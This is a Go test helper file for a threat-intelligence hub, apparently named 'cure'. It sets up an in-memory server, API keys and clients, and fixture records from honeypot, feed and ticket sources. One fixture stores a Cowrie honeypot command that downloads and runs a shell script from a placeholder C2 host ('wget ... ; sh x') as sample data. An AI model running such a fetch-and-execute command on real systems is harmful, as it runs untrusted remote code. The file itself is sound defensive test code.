package api_test

import (
	"context"
	"crypto/rand"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/opencure/cure"
	"github.com/opencure/cure/client"
	"github.com/opencure/cure/internal/access"
	"github.com/opencure/cure/internal/api"
	"github.com/opencure/cure/internal/hub"
	"github.com/opencure/cure/internal/log"
	"github.com/opencure/cure/web"
)

// house is a whole hub behind its API and page, on a log in memory.
type house struct {
	t        testing.TB
	url      string
	key      string // of the first administrator
	admin    *client.Client
	sessions *api.Sessions
	logged   *logged
}

// logged is what the server logged.
type logged struct {
	mu sync.Mutex
	b  strings.Builder
}

func (l *logged) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(b)
}

func (l *logged) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// open makes a house. Sources whose instance is the name of a TLP label have
// it for a default, all others CLEAR.
func open(t testing.TB, change func(*api.Options)) *house {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	backend := log.NewMemory(time.Now)
	registry, err := access.Open(ctx, access.Options{Log: backend, Own: access.Org{ID: "own", Name: "Own", Own: true}, Logger: slog.New(slog.DiscardHandler), Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	h, err := hub.Open(ctx, hub.Options{
		Log: backend, Self: access.System("hub"), Heap: true, Policy: hub.Policy{Default: defaultOf}, Now: time.Now,
	})
	if err != nil {
		t.Fatal(err)
	}
	var running sync.WaitGroup
	running.Go(func() { _ = h.Run(ctx) })
	running.Go(func() { _ = registry.Run(ctx) })

	house := &house{t: t, sessions: api.NewSessions(rand.Reader, time.Now), logged: &logged{}}
	view := func(p access.Principal, purpose string) access.View { return registry.View(h, p, purpose) }
	logger := slog.New(slog.NewTextHandler(house.logged, nil))
	o := api.Options{
		Access: registry, View: view, Sessions: house.sessions, Version: "test", Log: logger, Now: time.Now, Random: rand.Reader,
		Page: web.New(web.Options{Access: registry, View: view, Sessions: house.sessions, Version: "test", Log: logger, Now: time.Now}),
	}
	if change != nil {
		change(&o)
	}
	srv := httptest.NewServer(api.New(o).Handler())
	t.Cleanup(func() {
		srv.Close()
		cancel()
		running.Wait()
		_ = h.Close()
		if s := house.logged.String(); strings.Contains(s, "level=ERROR") {
			t.Errorf("the server logged an error:\n%s", s)
		}
	})
	house.url = srv.URL
	if house.key, _, err = registry.FirstKey(ctx, nil); err != nil {
		t.Fatal(err)
	}
	house.admin = house.as(house.key)
	return house
}

func defaultOf(src cure.Source) cure.Marking {
	m := cure.Marking{TLP: cure.TLPClear, PAP: cure.PAPClear, Licence: cure.LicencePublic}
	if err := m.TLP.UnmarshalText([]byte(src.Instance())); err != nil {
		m.TLP = cure.TLPClear
	}
	return m
}

// as returns a client with that key.
func (h *house) as(key string) *client.Client {
	h.t.Helper()
	c, err := client.New(h.url, key, client.WithTries(1))
	if err != nil {
		h.t.Fatal(err)
	}
	return c
}

// newKey makes a key and returns its text and a client with it.
func (h *house) newKey(spec client.KeySpec) (string, *client.Client) {
	h.t.Helper()
	text, _, err := h.admin.CreateKey(h.t.Context(), spec)
	if err != nil {
		h.t.Fatal(err)
	}
	return text, h.as(text)
}

// saw is a record in which a source saw values together.
func saw(src cure.Source, minute int, values ...cure.Observable) client.RecordLine {
	at := time.Date(2026, 11, 20, 1, minute, 0, 0, time.UTC)
	line := client.RecordLine{Source: src}
	for _, v := range values {
		line.Observations = append(line.Observations, cure.Observation{Observable: v, Role: cure.RoleScanner, First: at, Count: 1})
	}
	return line
}

func ip(v string) cure.Observable     { return cure.Observable{Kind: cure.KindIP, Value: v} }
func domain(v string) cure.Observable { return cure.Observable{Kind: cure.KindDomain, Value: v} }

// push sends records and waits until they are applied.
func (h *house) push(id string, lines ...client.RecordLine) *client.Pushed {
	h.t.Helper()
	p, err := h.admin.Push(h.t.Context(), id, lines)
	if err != nil {
		h.t.Fatal(err)
	}
	if err := h.admin.Applied(h.t.Context(), p.Sequence); err != nil {
		h.t.Fatal(err)
	}
	return p
}

// quarantined waits until something of the source is in the quarantine: the
// hub reads that stream beside the data.
func (h *house) quarantined(src cure.Source) []client.BadRecord {
	h.t.Helper()
	for {
		bad, err := h.admin.Quarantined(h.t.Context(), src, client.Page{})
		if err != nil {
			h.t.Fatal(err)
		}
		if len(bad) > 0 {
			return bad
		}
		time.Sleep(time.Millisecond)
	}
}

// story is a small world: two sources share an address, one saw a name with
// it, and one thing is RED.
func (h *house) story() {
	h.t.Helper()
	tagged := saw("tickets/soc", 5, ip("198.51.100.7"))
	tagged.Annotations = []cure.Annotation{{
		Subject: ip("198.51.100.7"), Tag: cure.Observable{Kind: cure.KindTag, Value: "mirai"},
		Time: time.Date(2026, 11, 20, 1, 5, 0, 0, time.UTC), Confidence: 80, Sentence: "198.51.100.7 scans like Mirai does.",
	}}
	first := saw("cowrie/tokyo1", 0, ip("198.51.100.7"), domain("c2.example.org"))
	first.Attrs = []cure.Attr{{Name: "command", Value: "wget http://c2.example.org/x; sh x"}}
	first.Raw = []byte(`{"eventid":"cowrie.command.input","input":"wget http://c2.example.org/x; sh x"}`)
	p := h.push("story", first, saw("cowrie/tokyo1", 2, ip("198.51.100.7")), saw("feeds/ipsum", 3, ip("198.51.100.7"), ip("198.51.100.9")),
		tagged, saw("alerts/red", 4, ip("203.0.113.5")))
	if p.Accepted != 5 || p.RefusedTotal != 0 {
		h.t.Fatalf("story: %+v", p)
	}
}

// browser is somebody with a cookie jar in front of the page.
type browser struct {
	h *house
	c *http.Client
}

// get reads a page and returns its status and text.
func (b browser) get(path string) (int, string) {
	b.h.t.Helper()
	resp, err := b.c.Get(b.h.url + path)
	if err != nil {
		b.h.t.Fatal(err)
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	if err != nil {
		b.h.t.Fatal(err)
	}
	return resp.StatusCode, string(text)
}
